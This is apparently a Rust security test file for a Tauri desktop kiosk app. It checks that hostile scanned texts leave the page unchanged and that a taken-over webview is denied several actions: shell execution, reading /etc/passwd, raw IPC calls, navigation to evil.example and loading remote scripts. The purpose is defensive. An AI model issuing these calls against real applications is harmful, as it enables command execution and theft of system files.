//! Row 5: hostile texts, and a page that was taken over all the same.

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use town::Window;

use super::{SOON, invoke, scene};

/// What of a page could act or lead away.
const MAKE: &str = "const count = (what) => document.querySelectorAll(what).length;
    return ['script', 'iframe', 'a', 'object', 'embed', 'form', 'base', 'link', 'style', 'meta',
        'video', 'audio', 'input', '[onerror]', '[onload]', '[srcdoc]'].map(count);";
/// Notes what the policy of the page had to stop.
const WATCH: &str = "window.stopped = [];
    document.addEventListener('securitypolicyviolation', (e) => window.stopped.push(e.violatedDirective));";

/// What must be the same before and after a hostile text.
async fn state_of(window: &Window) -> Result<Vec<Value>> {
    // A command and its answer are a round trip: whatever came before it has been drawn by then.
    invoke(window, "current_screen", &json!({})).await?;
    let address = json!(window.address().await?);
    let (make, title) = (
        window.ask(MAKE).await?,
        window.ask("return document.title").await?,
    );
    Ok(vec![
        address,
        make,
        title,
        window.ask("return window.stopped").await?,
    ])
}

async fn stand_at_the_house_scan(window: &Window) -> Result<Vec<Value>> {
    window.touch("begin-declare").await?;
    window.wait_for_screen("scan:house", SOON).await?;
    window.ask(WATCH).await?;
    state_of(window).await
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_texts_are_only_texts() -> Result<()> {
    let mut scene = scene(&[]).await?;
    let file: Value = serde_json::from_str(include_str!("../../golden/hostile-texts.json"))?;
    let cases = file["texts"].as_array().context("a list of texts")?;
    let texts: Vec<&str> = cases
        .iter()
        .filter_map(|case| case["text"].as_str())
        .collect();
    ensure!(texts.len() >= 60, "{} texts", texts.len());
    let window = scene.window.take().context("open")?;
    let before = stand_at_the_house_scan(&window).await?;
    ensure!(
        before.last() == Some(&json!([])),
        "nothing had to be stopped yet"
    );
    for (place, text) in texts.iter().enumerate() {
        if text.trim().is_empty() {
            // Keys that write nothing are no scan: they press what has the focus, as they should.
            continue;
        }
        window.scan_by_hand(text).await?;
        window.wait_for_screen("scan:house", SOON).await?;
        ensure!(
            state_of(&window).await? == before,
            "text {place} by hand changed the page"
        );
    }
    // After all that the true code is taken.
    window.scan_by_hand(&scene.pockets.house).await?;
    window.wait_for_screen("scan:resident", SOON).await?;
    // Some of them before the camera, each as the first of its visit, so that the answer shows.
    for (place, text) in texts.iter().enumerate().step_by(10) {
        invoke(&window, "end_visit", &json!({})).await.ok();
        window.wait_for_screen("welcome", SOON).await?;
        let before = stand_at_the_house_scan(&window).await?;
        scene.stage.show(text)?;
        window.find("refusal").await?;
        ensure!(
            state_of(&window).await? == before,
            "text {place} by camera changed the page"
        );
        scene.stage.clear()?;
    }
    window.close().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_gets_nowhere() -> Result<()> {
    let scene = scene(&[]).await?;
    let window = scene.window();
    ensure!(
        invoke(window, "current_screen", &json!({}))
            .await?
            .starts_with("yes")
    );
    for (command, carried) in [
        ("refused", json!({})),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("plugin:window|close", json!({ "label": "main" })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x" } }),
        ),
        (
            "plugin:event|emit",
            json!({ "event": "screen", "payload": {} }),
        ),
        ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
        ("accept_code", json!({ "text": "x".repeat(2_001) })),
        ("accept_code", json!({ "text": { "a": 1 } })),
        ("accept_code", json!({ "text": "x", "more": 1 })),
        ("begin_visit", json!({})),
        ("choose_text_size", json!({ "size": -1 })),
    ] {
        let answer = invoke(window, command, &carried).await?;
        ensure!(answer.starts_with("no"), "{command}: {answer}");
    }
    // Past the checking frame: straight to the door of the commands, without its encryption.
    let past = window
        .ask(
            "return fetch('ipc://localhost/current_screen', { method: 'POST', body: '{}', headers:
                { 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Content-Type': 'application/json' } })
                .then((r) => r.text().then((t) => r.status + t), (e) => 'stopped')",
        )
        .await?;
    let past = past.as_str().unwrap_or_default();
    ensure!(!past.contains("screen"), "past the frame: {past}");
    // Out of the page: other addresses, other windows, the network.
    let address = window.address().await?;
    for way in [
        "location.href = 'https://evil.example/'; return 1",
        "location.href = 'file:///etc/passwd'; return 1",
        "location.replace('data:text/html,x'); return 1",
        "return window.open('https://evil.example/') === null",
        "return window.open('about:blank') === null",
        "const a = document.createElement('a'); a.href = 'https://evil.example/'; a.target = '_blank';
            document.body.append(a); a.click(); a.remove(); return 1",
    ] {
        drop(window.ask(way).await?);
    }
    for request in [
        "fetch('https://evil.example/')",
        "fetch('http://127.0.0.1:1/')",
        "new Promise((yes, no) => { const s = document.createElement('script');
            s.src = 'https://evil.example/x.js'; s.onload = yes; s.onerror = no; document.head.append(s); })",
        "Promise.resolve().then(() => eval('1'))",
        "Promise.resolve().then(() => new Function('return 1')())",
    ] {
        let script = format!("return {request}.then(() => 'yes', () => 'no')");
        ensure!(window.ask(&script).await? == "no", "{request} is allowed");
    }
    ensure!(window.address().await? == address, "the page was left");
    window.wait_for_screen("welcome", SOON).await?;
    scene.close().await
}
